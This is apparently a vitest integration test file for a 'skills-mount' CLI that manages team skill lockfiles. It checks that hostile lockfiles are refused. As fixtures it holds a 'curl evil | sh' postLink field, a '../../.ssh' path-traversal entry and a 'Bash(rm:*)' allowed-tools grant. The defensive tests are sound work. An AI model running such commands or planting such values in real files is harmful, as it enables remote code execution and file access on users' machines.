// A project's lockfile as a team uses it, with no FUSE anywhere: the built CLI run as each person
// (a HOME of their own) against the reference server over Streamable HTTP. One person locks skills
// into a git repository's skills-lock.json; another, who never approved anything, links exactly
// those bytes; the server moving on is shown by outdated and verify and never reaches a linked entry
// until update; hostile lockfiles are refused by entry without touching anything of the user's; a
// policy has the last word; link --watch follows a replaced lockfile, and writers racing it never
// leave a half-written file.
import { spawn } from 'node:child_process';
import { access, chmod, readFile, readlink, rm, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { removeReadOnlyTree } from '../../src/read-only-tree.js';
import { changeLockfile } from '../../src/team/lockfile-store.js';
import { MAX_LOCKFILE_BYTES, parseLockfile } from '../../src/team/lockfile.js';
import { SKILLS_SERVE, startHttpServe, type ListeningServer } from '../support/http-server.js';
import { writeTree } from '../support/skill-builder.js';
import { cli, git, gitProject, namesIn, person, replaceByRename, startCli, treeStamp, writeConfig, writePolicy, type Person } from '../support/team-lock-world.js';
import { copyOf, lockedEntry, lockText, rawLockfile, setDigestOf, sha256Of, skillText, type RawLockfile } from '../support/team-lockfile.js';
import { makeTempDir } from '../support/temp-dir.js';

const LOCKFILE = 'skills-lock.json';
const made: string[] = [];
afterAll(async () => {
  for (const dir of made) await removeReadOnlyTree(dir).catch(() => rm(dir, { recursive: true, force: true }));
});

/** The served skills x, y (locked) and z (never locked), file by file. */
const X1 = { 'SKILL.md': skillText('x', 'Does x things'), 'references/r.md': 'x reference, first version\n' };
const Y = { 'SKILL.md': skillText('y', 'Does y things'), 'references/r.md': 'y reference\n' };
const Z = { 'SKILL.md': skillText('z', 'Does z things') };
/** x as the server serves it later: a new description, a body line, and an allowed-tools nobody granted. */
const X2_SKILL_MD = skillText('x', 'Does x things better', 'allowed-tools: Bash(rm:*)\n', '# x\nnew body\n');

async function servedFolder(base: string): Promise<string> {
  const served = path.join(base, 'served');
  await writeTree(served, {
    ...Object.fromEntries(Object.entries(X1).map(([file, text]) => [`x/${file}`, text])),
    ...Object.fromEntries(Object.entries(Y).map(([file, text]) => [`y/${file}`, text])),
    ...Object.fromEntries(Object.entries(Z).map(([file, text]) => [`z/${file}`, text])),
  });
  return served;
}

/** A scratch folder removed after the file. */
async function scratch(prefix: string): Promise<string> {
  const dir = await makeTempDir(prefix);
  made.push(dir);
  return dir;
}

/**
 * A person whose config names the team's server as "crew", with a token of their own in the URL.
 * Not "demo", the label the mount tests use: link reads a label's bytes from a running mount that
 * serves the label before the configured server, so a test mount of "demo" would stand in for it.
 */
async function teammate(base: string, name: string, server: ListeningServer, extra: Record<string, unknown> = {}): Promise<Person> {
  const who = await person(base, name);
  await writeConfig(who, { crew: { url: `${server.url}?token=${name}-QUERY-SECRET`, ...extra } });
  return who;
}

function expectOk(result: { code: number | null; stdout: string; stderr: string }): void {
  expect(result.code, `${result.stdout}\n${result.stderr}`).toBe(0);
}

/** Until `read` gives what `done` accepts; resolves how long that took. */
async function timeUntil<T>(read: () => Promise<T>, done: (value: T) => boolean, timeoutMs: number, what: string, detail: () => string = () => ''): Promise<number> {
  const started = Date.now();
  let last: T | undefined;
  while (Date.now() - started < timeoutMs) {
    last = await read();
    if (done(last)) return Date.now() - started;
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  throw new Error(`${what}: not within ${timeoutMs} ms (last: ${JSON.stringify(last)})\n${detail()}`);
}

describe('a team lock: lock, link on another machine, the server moving on, update, unlock, verify', () => {
  let base: string;
  let served: string;
  let server: ListeningServer;
  let project: string;
  let lockfile: string;
  let alice: Person;
  let bob: Person;
  let root: string;

  beforeAll(async () => {
    base = await scratch('team-lock-cli-');
    served = await servedFolder(base);
    server = await startHttpServe([served]);
    project = await gitProject(path.join(base, 'project'));
    lockfile = path.join(project, LOCKFILE);
    root = path.join(project, '.claude', 'skills');
    // Alice's server entry carries secrets in three places; Bob's has his own token and no approvals at all.
    alice = await teammate(base, 'alice', server, { headers: { Authorization: 'Bearer alice-HEADER-SECRET', 'X-Api-Key': 'alice-KEY-SECRET' } });
    bob = await teammate(base, 'bob', server);
  });
  afterAll(async () => {
    await server?.stop();
  });

  it('lock writes a sorted lockfile, one line per file, with no secret; a teammate who approved nothing links exactly the locked skills; verify passes', async () => {
    const locked = await cli(alice, ['lock', 'crew/y', 'crew/x', '--project', project, '--yes']);
    expectOk(locked);
    expect(locked.stdout).toMatch(new RegExp(`locked crew/x: 2 files, set sha256:[0-9a-f]{64}, in ${lockfile}`));
    const text = await readFile(lockfile, 'utf8');
    // The exact entries, computed here from the served bytes; the server by its URL alone.
    expect(JSON.parse(text)).toEqual(rawLockfile({ crew: { url: server.url } }, [lockedEntry('crew', 'x', X1), lockedEntry('crew', 'y', Y)]));
    expect(text).not.toMatch(/SECRET|token=|Bearer|Authorization|X-Api-Key/i);
    const fileLines = text.split('\n').filter((line) => line.includes('"path":') && line.includes('"digest":'));
    expect(fileLines).toHaveLength(4);
    for (const line of fileLines) expect(line).toMatch(/^ {8}\{"path":"[^"]+","size":\d+,"digest":"sha256:[0-9a-f]{64}","uri":"skill:\/\/[^"]+"\},?$/);
    expect(text.endsWith('}\n')).toBe(true);
    // Nothing else left in the project: no writer's lock, no temp file.
    expect(await namesIn(project)).toEqual(['.git', LOCKFILE]);
    await git(project, 'add', LOCKFILE);
    await git(project, 'commit', '-q', '-m', 'lock x and y');

    const approvalsOfBob = path.join(bob.env.XDG_CONFIG_HOME!, 'skills-mount', 'approvals.json');
    const linked = await cli(bob, ['link', 'claude-code', '--project', project]);
    expectOk(linked);
    expect(linked.stdout).toContain(`claude-code: ${root}: 2 skills linked (added x, y)`);
    expect(await namesIn(root)).toEqual(['x', 'y']);
    expect(await readFile(path.join(root, 'x', 'references', 'r.md'), 'utf8')).toBe(X1['references/r.md']);
    expect(await readFile(path.join(root, 'x', 'SKILL.md'), 'utf8')).toContain('Does x things');
    await expect(access(approvalsOfBob)).rejects.toThrow(/ENOENT/);

    // verify writes nothing: not in Bob's HOME (links.json, the store), not in the project.
    const before = [...(await treeStamp(bob.home)), ...(await treeStamp(project))];
    const verified = await cli(bob, ['verify', '--project', project]);
    expectOk(verified);
    expect(verified.stdout).toMatch(/2 locked skills, 2 entries in 1 root, 4 files: as locked/);
    expect([...(await treeStamp(bob.home)), ...(await treeStamp(project))]).toEqual(before);
  });

  it('the server changes x: outdated shows the diff, the file table and the new allowed-tools (exit 1, text and --json); the linked entry keeps the locked bytes; verify --against-server names x; a fresh machine gets x refused by name and y linked', async () => {
    await writeFile(path.join(served, 'x', 'SKILL.md'), X2_SKILL_MD);
    // skills-serve sees the change after its watch settles.
    await new Promise((resolve) => setTimeout(resolve, 400));
    const clone = path.join(base, 'clone');
    await git(base, 'clone', '-q', project, clone);
    const carol = await teammate(base, 'carol', server);

    const [outdated, json, linked, against, fresh] = await Promise.all([
      cli(alice, ['outdated', '--project', project]),
      cli(alice, ['outdated', '--project', project, '--json']),
      cli(bob, ['link', 'claude-code', '--project', project]),
      cli(bob, ['verify', '--project', project, '--against-server']),
      cli(carol, ['link', 'claude-code', '--project', clone]),
    ]);

    expect(outdated.code, outdated.stderr).toBe(1);
    const lockedX = lockedEntry('crew', 'x', X1);
    expect(outdated.stdout).toContain(`crew/x: the server serves another version (locked set ${lockedX.resourcesDigest}, served sha256:`);
    expect(outdated.stdout).toMatch(/^ {2}changed {2}SKILL\.md {2}\d+ B -> \d+ B$/m);
    expect(outdated.stdout).toContain('  ! allowed-tools: Bash(rm:*)  (new in this version: an update never grants it)');
    const diff = ['  --- a/crew/x/SKILL.md', '  +++ b/crew/x/SKILL.md', '  -description: Does x things', '  +description: Does x things better', '  +allowed-tools: Bash(rm:*)', '  +new body'];
    for (const line of diff) expect(outdated.stdout.split('\n')).toContain(line);
    expect(outdated.stdout).toContain('crew/y: current');
    expect(outdated.stdout).toContain('2 locked skills: 1 current, 1 changed');

    expect(json.code, json.stderr).toBe(1);
    const report = JSON.parse(json.stdout) as { lockfile: string; skills: Array<Record<string, unknown>> };
    expect(report.lockfile).toBe(lockfile);
    expect(report.skills).toEqual([
      expect.objectContaining({
        server: 'crew',
        path: 'x',
        state: 'changed',
        lockedResourcesDigest: lockedX.resourcesDigest,
        files: [{ path: 'SKILL.md', change: 'changed', lockedBytes: Buffer.byteLength(X1['SKILL.md']), servedBytes: Buffer.byteLength(X2_SKILL_MD) }],
        newPermissionFields: [{ field: 'allowed-tools', value: 'Bash(rm:*)' }],
      }),
      { server: 'crew', path: 'y', state: 'current', lockedResourcesDigest: lockedEntry('crew', 'y', Y).resourcesDigest },
    ]);
    // The same diff as the text shows.
    for (const line of diff) expect((report.skills[0]!.skillMdDiff as string).split('\n')).toContain(line.slice(2));

    expectOk(linked);
    const linkedSkillMd = await readFile(path.join(root, 'x', 'SKILL.md'), 'utf8');
    expect(linkedSkillMd).toContain('Does x things');
    expect(linkedSkillMd).not.toContain('better');
    expect(linkedSkillMd).not.toContain('new body');

    expect(against.code, against.stderr).toBe(1);
    expect(against.stdout).toContain('crew/x: the server serves another version: SKILL.md changed');
    expect(against.stdout).not.toMatch(/^crew\/y/m);

    expect(fresh.code, fresh.stderr).toBe(1);
    // The mount's approved view gives the same reason for leaving x out (locked-content.ts).
    expect(fresh.stdout).toMatch(/crew\/x is not linked: crew: skill:\/\/x\/SKILL\.md: locked as sha256:[0-9a-f]{64}, which this machine has not kept, and the server serves sha256:[0-9a-f]{64} now/);
    expect(await namesIn(path.join(clone, '.claude', 'skills'))).toEqual(['y']);
  });

  it('verify names a lock entry that is not what is installed (another valid digest, its set digest recomputed)', async () => {
    const lock = JSON.parse(await readFile(lockfile, 'utf8')) as RawLockfile;
    const y = lock.skills.find((skill) => skill.path === 'y')!;
    const reference = y.files.find((file) => file.path === 'references/r.md')!;
    reference.digest = sha256Of('another reference\n');
    reference.size = 18;
    y.resourcesDigest = setDigestOf(y.files);
    await writeFile(lockfile, lockText(lock));
    const verified = await cli(bob, ['verify', '--project', project]);
    expect(verified.code, verified.stdout + verified.stderr).toBe(1);
    expect(verified.stdout).toContain(`${path.join(root, 'y')}: crew skill://y/SKILL.md is locked with other files`);
    expect(verified.stdout).not.toMatch(/skills\/x: /);
    expect(verified.stdout).toMatch(/1 difference/);
    await git(project, 'checkout', '-q', '--', LOCKFILE);
    expectOk(await cli(bob, ['verify', '--project', project]));
  });

  it('update rewrites only x\'s entry and grants nothing new; link then gives the new bytes; outdated exits 0', async () => {
    const updated = await cli(alice, ['update', 'crew/x', '--project', project, '--yes']);
    expectOk(updated);
    expect(updated.stdout).toContain('  ! allowed-tools: Bash(rm:*)  (new in this version: an update never grants it)');
    expect(updated.stdout).toMatch(/updated crew\/x: set sha256:[0-9a-f]{64}\n/);
    const lock = JSON.parse(await readFile(lockfile, 'utf8')) as RawLockfile;
    const x2 = lockedEntry('crew', 'x', { ...X1, 'SKILL.md': X2_SKILL_MD });
    expect(lock.skills).toEqual([x2, lockedEntry('crew', 'y', Y)]);
    expect(lock.skills[0]!.grants).toEqual({ allowedTools: null, exec: false });
    // A small diff: x's two digests and its SKILL.md line.
    expect((await git(project, 'diff', '--numstat', '--', LOCKFILE)).trim()).toBe(`3\t3\t${LOCKFILE}`);

    const [linked, outdated] = await Promise.all([cli(bob, ['link', 'claude-code', '--project', project]), cli(alice, ['outdated', '--project', project])]);
    expectOk(linked);
    expect(linked.stdout).toContain('(replaced x)');
    const entry = await readFile(path.join(root, 'x', 'SKILL.md'), 'utf8');
    expect(entry).toContain('new body');
    expect(entry).not.toMatch(/allowed-tools/);
    expectOk(outdated);
    expect(outdated.stdout).toContain('2 locked skills: 2 current, 0 changed');
  });

  it('unlock removes the entry (exit 1 for a PATH the lock does not hold), and link then removes it from the root', async () => {
    // One PATH the lock does not hold: the others are still unlocked, and the exit says so.
    const unlocked = await cli(alice, ['unlock', 'crew/x', 'crew/z', '--project', project]);
    expect(unlocked.code, unlocked.stdout + unlocked.stderr).toBe(1);
    expect(unlocked.stdout).toContain(`unlocked crew/x (${lockfile})`);
    expect(unlocked.stdout).toContain(`skills-mount: crew/z is not in ${lockfile}`);
    expect((JSON.parse(await readFile(lockfile, 'utf8')) as RawLockfile).skills.map((skill) => skill.path)).toEqual(['y']);
    const linked = await cli(bob, ['link', 'claude-code', '--project', project]);
    expectOk(linked);
    expect(linked.stdout).toContain('(removed x)');
    expect(await namesIn(root)).toEqual(['y']);
  });

  it('verify names a linked file changed in the store', async () => {
    const file = path.join(await readlink(path.join(root, 'y')), 'references', 'r.md');
    await chmod(path.dirname(file), 0o755);
    await chmod(file, 0o644);
    await writeFile(file, 'tampered\n');
    const verified = await cli(bob, ['verify', '--project', project, '--json']);
    expect(verified.code).toBe(1);
    const report = JSON.parse(verified.stdout) as { problems: Array<{ where: string; detail: string }> };
    expect(report.problems.map((problem) => problem.where)).toContain(path.join(root, 'y'));
    expect(report.problems.map((problem) => problem.detail)).toContainEqual(expect.stringMatching(/^references\/r\.md: hashes to sha256:[0-9a-f]{64}, approved sha256:/));
  });
});

describe('hostile lockfiles and the policy', () => {
  let base: string;
  let served: string;
  let server: ListeningServer;
  let good: RawLockfile;

  beforeAll(async () => {
    base = await scratch('team-lock-hostile-');
    served = await servedFolder(base);
    server = await startHttpServe([served]);
    good = rawLockfile({ crew: { url: server.url } }, [lockedEntry('crew', 'x', X1), lockedEntry('crew', 'y', Y)]);
  });
  afterAll(async () => {
    await server?.stop();
  });

  const USER_SKILL = skillText('mine', 'My own skill');

  /** A project whose claude-code root holds the user's own skill "mine", with `lock` as its lockfile; a person to link it. */
  async function hostileProject(name: string, lock: string | ((file: string) => Promise<void>)): Promise<{ who: Person; project: string; root: string }> {
    const project = await gitProject(path.join(base, `project-${name}`));
    const root = path.join(project, '.claude', 'skills');
    await writeTree(root, { 'mine/SKILL.md': USER_SKILL });
    const file = path.join(project, LOCKFILE);
    if (typeof lock === 'string') await writeFile(file, lock);
    else await lock(file);
    return { who: await teammate(base, `person-${name}`, server), project, root };
  }

  it('each refused whole, naming the entry: exit 1, nothing linked, the user\'s own skill untouched', async () => {
    const bad = (change: (lock: RawLockfile) => void): string => {
      const lock = copyOf(good);
      change(lock);
      return lockText(lock);
    };
    const cases: Array<{ name: string; lock: string | ((file: string) => Promise<void>); says: RegExp }> = [
      {
        name: 'huge',
        lock: async (file) => {
          await writeFile(file, '');
          await truncate(file, MAX_LOCKFILE_BYTES + 1);
        },
        says: new RegExp(`${LOCKFILE}: is ${MAX_LOCKFILE_BYTES + 1} bytes; a lockfile is at most ${MAX_LOCKFILE_BYTES}`),
      },
      { name: 'digest', lock: bad((lock) => void (lock.skills[1]!.files[1]!.digest = sha256Of('swapped\n'))), says: /skills\[1\] \(crew\/y\): has a resourcesDigest that does not match its files/ },
      { name: 'escape', lock: bad((lock) => void (lock.skills[1]!.path = '../../.ssh')), says: /skills\[1\] \(crew\/\.\.\/\.\.\/\.ssh\): has a path that has an empty, "\." or "\.\." segment/ },
      { name: 'duplicate', lock: bad((lock) => void lock.skills.push(copyOf(lock.skills[0]!))), says: /skills\[2\] \(crew\/x\): locks the same skill as skills\[0\] \(crew\/x\)/ },
      { name: 'newer', lock: bad((lock) => void (lock.lockfileVersion = 2)), says: /is lockfileVersion 2, written by a newer skills-mount; this one reads version 1: upgrade skills-mount/ },
      { name: 'unknown', lock: bad((lock) => void ((lock.skills[0] as unknown as Record<string, unknown>).postLink = 'curl evil | sh')), says: /skills\[0\]: has unknown field "postLink"/ },
      {
        // x's files under y's path: a policy rule on "y" would have judged x.
        name: 'moved',
        lock: bad((lock) => {
          lock.skills = [{ ...lockedEntry('crew', 'x', X1), path: 'y', name: 'y' }];
        }),
        says: /skills\[0\] \(crew\/y\): has uri skill:\/\/x\/SKILL\.md, which is not the SKILL\.md of its path/,
      },
    ];
    const projects = await Promise.all(cases.map((one) => hostileProject(one.name, one.lock)));
    const results = await Promise.all(projects.map(({ who, project }) => cli(who, ['link', 'claude-code', '--project', project])));
    for (const [index, one] of cases.entries()) {
      const result = results[index]!;
      expect(result.code, `${one.name}: ${result.stdout}${result.stderr}`).toBe(1);
      expect(result.stderr, one.name).toMatch(one.says);
      expect(await namesIn(projects[index]!.root), one.name).toEqual(['mine']);
      expect(await readFile(path.join(projects[index]!.root, 'mine', 'SKILL.md'), 'utf8')).toBe(USER_SKILL);
    }
  });

  it('a server the configuration here lacks, and a grant the user\'s policy never gives: that skill refused by name (the policy file and rule named), the rest linked, exit 1; outdated exits 2 naming the server it could not ask', async () => {
    // The lock's own idea of server "other" is a command that leaves a mark if anything ever runs it.
    const marker = path.join(base, 'the-lock-ran-a-command');
    const otherServer = copyOf(good);
    otherServer.servers.other = { command: process.execPath, args: ['-e', `require('fs').writeFileSync(${JSON.stringify(marker)}, 'ran')`] };
    otherServer.skills[0]!.server = 'other';
    const shownCommand = [process.execPath, ...otherServer.servers.other.args].join(' ');
    const granted = copyOf(good);
    granted.skills[0] = lockedEntry('crew', 'x', X1, { exec: true });
    const [unknown, policed] = await Promise.all([hostileProject('other-server', lockText(otherServer)), hostileProject('grant', lockText(granted))]);
    await writePolicy(policed.who, { policyVersion: 1, neverGrant: ['exec'] });
    const [first, second, outdated] = await Promise.all([
      cli(unknown.who, ['link', 'claude-code', '--project', unknown.project]),
      cli(policed.who, ['link', 'claude-code', '--project', policed.project]),
      cli(unknown.who, ['outdated', '--project', unknown.project]),
    ]);
    // A server outdated could not ask: exit 2, named.
    expect(outdated.code, outdated.stdout + outdated.stderr).toBe(2);
    expect(outdated.stdout).toContain(`other/x: could not be asked: the configuration has no server "other" (the lock names ${shownCommand})`);
    expect(outdated.stdout).toContain('crew/y: current');
    expect(first.code, first.stdout + first.stderr).toBe(1);
    expect(first.stdout).toContain(`other/x is not linked: the lock names server "other" (${shownCommand}) and the configuration here has no server "other"`);
    // Servers come from the configuration only: nothing the lockfile names is ever started.
    await expect(access(marker)).rejects.toThrow(/ENOENT/);
    expect(await namesIn(unknown.root), first.stdout + first.stderr).toEqual(['mine', 'y']);
    expect(second.code, second.stdout + second.stderr).toBe(1);
    expect(second.stdout).toContain(`crew/x is not linked: refused by policy ${policed.who.policyFile} (neverGrant): server "crew" (${server.url}) may not be granted exec: it is never given`);
    expect(await namesIn(policed.root), second.stdout + second.stderr).toEqual(['mine', 'y']);
    for (const { root } of [unknown, policed]) expect(await readFile(path.join(root, 'mine', 'SKILL.md'), 'utf8')).toBe(USER_SKILL);
  });

  it('lock refuses to re-point a label whose other entries were locked from another server (the same bytes over stdio included)', async () => {
    const { who, project } = await hostileProject('other-identity', lockText(good));
    const before = await readFile(path.join(project, LOCKFILE), 'utf8');
    const locked = await cli(who, ['lock', 'crew/z', '--project', project, '--yes', '--server', `crew=${process.execPath} ${SKILLS_SERVE} ${served}`]);
    expect(locked.code, locked.stdout + locked.stderr).toBe(1);
    expect(locked.stdout).toContain(`skills-mount: crew/z: the lock names server "crew" as ${server.url}, and crew/x, crew/y were locked from it; the configuration here has another server by that label`);
    expect(await readFile(path.join(project, LOCKFILE), 'utf8')).toBe(before);
  });

  it('a policy that does not let the server be linked or locked: link refuses the locked skills, lock refuses to add one, the lockfile stays as it was; a skills rule refuses the locked skills it does not match', async () => {
    const { who, project, root } = await hostileProject('denied', lockText(good));
    // The user's policy stands in for the machine's: the CLI reads the machine policy from /etc only.
    await writePolicy(who, { policyVersion: 1, servers: [{ url: server.url, may: ['mount', 'approve'] }] });
    // And a policy's skills rule judges each locked skill by its path.
    const onlyY = await hostileProject('only-y', lockText(good));
    await writePolicy(onlyY.who, { policyVersion: 1, skills: [{ path: 'y' }] });
    const before = await readFile(path.join(project, LOCKFILE), 'utf8');
    const [linked, locked, pathRule] = await Promise.all([
      cli(who, ['link', 'claude-code', '--project', project]),
      cli(who, ['lock', 'crew/z', '--project', project, '--yes']),
      cli(onlyY.who, ['link', 'claude-code', '--project', onlyY.project]),
    ]);
    expect(pathRule.code, pathRule.stdout + pathRule.stderr).toBe(1);
    expect(pathRule.stdout).toContain(`crew/x is not linked: refused by policy ${onlyY.who.policyFile} (skills: no rule matches): skill "x" of server "crew" (${server.url}) may not be linked`);
    expect(await namesIn(onlyY.root), pathRule.stdout + pathRule.stderr).toEqual(['mine', 'y']);
    expect(linked.code, linked.stdout + linked.stderr).toBe(1);
    for (const skill of ['x', 'y']) {
      expect(linked.stdout).toContain(`crew/${skill} is not linked: refused by policy ${who.policyFile} (servers[0]): skill "${skill}" of server "crew" (${server.url}) may not be linked`);
    }
    expect(await namesIn(root)).toEqual(['mine']);
    expect(locked.code, locked.stdout + locked.stderr).toBe(1);
    expect(locked.stdout).toContain(`crew/z: refused by policy ${who.policyFile} (servers[0]): server "crew" (${server.url}) may not be locked`);
    expect(await readFile(path.join(project, LOCKFILE), 'utf8')).toBe(before);
  });
});

describe('a stdio server the project configures with ${workspaceFolder}', () => {
  it('a lock written in one checkout is linked and verified in a clone elsewhere, and records the line as written', async () => {
    // The server and its skills live in the repository; .vscode/mcp.json starts it from wherever
    // the checkout is, with a setting from the environment: each machine expands both differently.
    const base = await scratch('team-lock-stdio-');
    const project = await gitProject(path.join(base, 'alice-checkout'));
    await writeTree(path.join(project, 'skills'), Object.fromEntries(Object.entries(X1).map(([file, text]) => [`x/${file}`, text])));
    const entry = { command: process.execPath, args: [SKILLS_SERVE, '${workspaceFolder}/skills', '--lenient', '--page-size', '${env:CREW_PAGE_SIZE}'] };
    await writeTree(path.join(project, '.vscode'), { 'mcp.json': JSON.stringify({ servers: { crew: entry } }) });
    const alice = await person(base, 'alice');
    alice.env.CREW_PAGE_SIZE = '50';
    const config = (checkout: string) => path.join(checkout, '.vscode', 'mcp.json');
    expectOk(await cli(alice, ['lock', 'crew/x', '--project', project, '--config', config(project), '--yes']));
    const text = await readFile(path.join(project, LOCKFILE), 'utf8');
    // The line as written: neither Alice's checkout nor her environment's value.
    expect(JSON.parse(text).servers).toEqual({ crew: entry });
    expect(text).not.toContain(project);
    await git(project, 'add', '.');
    await git(project, 'commit', '-q', '-m', 'the skills, their server, and the lock');

    const bob = await person(base, 'bob');
    bob.env.CREW_PAGE_SIZE = '7';
    const clone = path.join(base, 'elsewhere', 'bob-checkout');
    await git(base, 'clone', '-q', project, clone);
    const linked = await cli(bob, ['link', 'claude-code', '--project', clone, '--config', config(clone)]);
    expectOk(linked);
    expect(await readFile(path.join(clone, '.claude', 'skills', 'x', 'references', 'r.md'), 'utf8')).toBe(X1['references/r.md']);
    const verified = await cli(bob, ['verify', '--project', clone, '--against-server', '--config', config(clone)]);
    expectOk(verified);
    expect(verified.stdout).toMatch(/1 locked skill.*as locked/);
  });
});

describe('link --watch and writers racing it', () => {
  let base: string;
  let served: string;
  let server: ListeningServer;

  beforeAll(async () => {
    base = await scratch('team-lock-watch-');
    served = await servedFolder(base);
    server = await startHttpServe([served]);
  });
  afterAll(async () => {
    await server?.stop();
  });

  it('follows a lockfile replaced by rename within 1 s (a broken one changes nothing); lock, update and twenty more writes while it runs never leave a half-written file or lose an entry', async () => {
    const project = await gitProject(path.join(base, 'project'));
    const lockfile = path.join(project, LOCKFILE);
    const root = path.join(project, '.claude', 'skills');
    const both = rawLockfile({ crew: { url: server.url } }, [lockedEntry('crew', 'x', X1), lockedEntry('crew', 'y', Y)]);
    const onlyY = rawLockfile({ crew: { url: server.url } }, [lockedEntry('crew', 'y', Y)]);
    await writeFile(lockfile, lockText(both));
    const dana = await teammate(base, 'dana', server);
    const watching = startCli(dana, ['link', 'claude-code', '--project', project, '--watch']);
    try {
      await timeUntil(() => namesIn(root), (names) => names.join() === 'x,y', 30_000, 'the first sync', watching.stderr);

      await replaceByRename(lockfile, lockText(onlyY));
      const removedMs = await timeUntil(() => namesIn(root), (names) => names.join() === 'y', 5_000, 'x removed', watching.stderr);
      expect(removedMs, 'x removed after the lockfile was replaced').toBeLessThan(1_000);
      await replaceByRename(lockfile, lockText(both));
      const addedMs = await timeUntil(() => namesIn(root), (names) => names.join() === 'x,y', 5_000, 'x back', watching.stderr);
      expect(addedMs, 'x linked again after the lockfile was replaced').toBeLessThan(1_000);
      // A broken lockfile (a bad digest) changes nothing in the root, and says which entry; the good one is followed again.
      const broken = copyOf(onlyY);
      broken.skills[0]!.files[1]!.digest = sha256Of('swapped\n');
      await replaceByRename(lockfile, lockText(broken));
      const linksFile = path.join(dana.linkStore, 'links.json');
      const rootProblems = async () => ((JSON.parse(await readFile(linksFile, 'utf8')) as { roots: Array<{ root: string; problems: string[] }> }).roots.find((one) => one.root === root)?.problems ?? []).join('\n');
      await timeUntil(rootProblems, (problems) => BROKEN_ENTRY.test(problems), 5_000, 'the broken lockfile recorded', watching.stderr);
      expect(await namesIn(root)).toEqual(['x', 'y']);
      // What the person sees of it: status names the entry, and so does the watching process (see below).
      const status = await cli(dana, ['status', '--json']);
      expect((JSON.parse(status.stdout) as { links: Array<{ root: string; problems: string[] }> }).links.find((one) => one.root === root)?.problems.join('\n')).toMatch(BROKEN_ENTRY);
      await timeUntil(async () => watching.stderr(), (text) => BROKEN_ENTRY.test(text), 2_000, 'link --watch saying so', watching.stderr).catch(() => undefined);
      watchLogAfterBrokenLock = watching.stderr();
      await replaceByRename(lockfile, lockText(onlyY));
      await timeUntil(() => namesIn(root), (names) => names.join() === 'y', 5_000, 'the good lockfile followed again', watching.stderr);
      await replaceByRename(lockfile, lockText(both));
      await timeUntil(() => namesIn(root), (names) => names.join() === 'x,y', 5_000, 'x back again', watching.stderr);

      // The server moves x on; then, all at once: update x and lock z (the CLI), twenty writes of y's
      // entry (out, in) under the writer's lock, and another process parsing the file in a tight loop.
      await writeFile(path.join(served, 'x', 'SKILL.md'), X2_SKILL_MD);
      await new Promise((resolve) => setTimeout(resolve, 400));
      const reader = await parseLoop(lockfile);
      const y = parseLockfile(lockText(both), lockfile).skills.find((skill) => skill.path === 'y')!;
      const writes = (async () => {
        for (let round = 0; round < 20; round++) {
          await changeLockfile(lockfile, (lock) => ({ servers: lock.servers, skills: round % 2 === 0 ? lock.skills.filter((skill) => skill.path !== 'y') : [...lock.skills, y] }));
        }
      })();
      const [updated, locked] = await Promise.all([cli(dana, ['update', 'crew/x', '--project', project, '--yes']), cli(dana, ['lock', 'crew/z', '--project', project, '--yes']), writes]);
      const reads = await reader.stop();
      expectOk(updated);
      expectOk(locked);
      expect(reads.failures, reads.firstFailure).toBe(0);
      expect(reads.whole).toBeGreaterThan(20);

      // Every writer's change is there: x updated, y back (the last round), z locked.
      const final = JSON.parse(await readFile(lockfile, 'utf8')) as RawLockfile;
      expect(final.skills).toEqual([lockedEntry('crew', 'x', { ...X1, 'SKILL.md': X2_SKILL_MD }), lockedEntry('crew', 'y', Y), lockedEntry('crew', 'z', Z)]);
      expect(await namesIn(project)).toEqual(['.claude', '.git', LOCKFILE]);
      // And link --watch followed: the new x, y and z in the root.
      await timeUntil(async () => [(await namesIn(root)).join(), await readFile(path.join(root, 'x', 'SKILL.md'), 'utf8').catch(() => '')] as const, ([names, x]) => names === 'x,y,z' && x.includes('new body'), 10_000, 'the root after the writes', watching.stderr);
      expectOk(await cli(dana, ['verify', '--project', project]));
    } finally {
      const exit = await watching.stop();
      expect(exit.code ?? exit.signal, watching.stderr()).toBe(0);
    }
  }, 90_000);

  it('a writer killed while it holds the writer\'s lock, mid-write, blocks nobody: the next command goes through at once and its temp file is gone', async () => {
    const project = await gitProject(path.join(base, 'killed'));
    const lockfile = path.join(project, LOCKFILE);
    const both = rawLockfile({ crew: { url: server.url } }, [lockedEntry('crew', 'x', X1), lockedEntry('crew', 'y', Y)]);
    await writeFile(lockfile, lockText(both));
    const lockFileModule = fileURLToPath(new URL('../../dist/lock-file.js', import.meta.url));
    // Takes the writer's lock as a writer does, leaves half a lockfile in a temp file, and waits to be killed.
    const script = `
      const { tryLock } = await import(${JSON.stringify(lockFileModule)});
      const taken = await tryLock(${JSON.stringify(path.join(project, `.${LOCKFILE}.lock`))});
      if (!('token' in taken)) throw new Error('not taken');
      (await import('node:fs')).writeFileSync(${JSON.stringify(path.join(project, `.${LOCKFILE}.tmp-99999-abcdef`))}, '{"lockfileVersion": 1, "serv');
      process.stdout.write('holding\\n');
      setInterval(() => {}, 1000);
    `;
    const holder = spawn(process.execPath, ['--input-type=module', '-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
    await new Promise<void>((resolve, reject) => {
      holder.stdout.setEncoding('utf8').on('data', (chunk: string) => chunk.includes('holding') && resolve());
      holder.once('exit', (code) => reject(new Error(`the holder exited (${code}) before it held the lock`)));
    });
    holder.kill('SIGKILL');
    await new Promise((resolve) => holder.once('exit', resolve));
    const erin = await teammate(base, 'erin', server);
    const started = Date.now();
    const unlocked = await cli(erin, ['unlock', 'crew/y', '--project', project]);
    expectOk(unlocked);
    // Well before the 10 s a live writer is waited for.
    expect(Date.now() - started).toBeLessThan(8_000);
    expect(await namesIn(project)).toEqual(['.git', LOCKFILE]);
    expect((JSON.parse(await readFile(lockfile, 'utf8')) as RawLockfile).skills.map((skill) => skill.path)).toEqual(['x']);
  });

  // A person watching is told that the lockfile they pulled is not followed, naming the entry.
  it('link --watch names the entry of a broken lockfile it does not follow', () => {
    expect(watchLogAfterBrokenLock).not.toBe('');
    expect(watchLogAfterBrokenLock).toMatch(BROKEN_ENTRY);
  });
});

/** How the refusal of the broken lockfile in the --watch test names its entry. */
const BROKEN_ENTRY = /skills\[0\] \(crew\/y\): has a resourcesDigest that does not match its files/;
/** What link --watch had logged once that broken lockfile was recorded. */
let watchLogAfterBrokenLock = '';

/** A child process that parses `file` as fast as it can until stopped: how many whole reads, how many not. */
async function parseLoop(file: string): Promise<{ stop(): Promise<{ whole: number; failures: number; firstFailure: string }> }> {
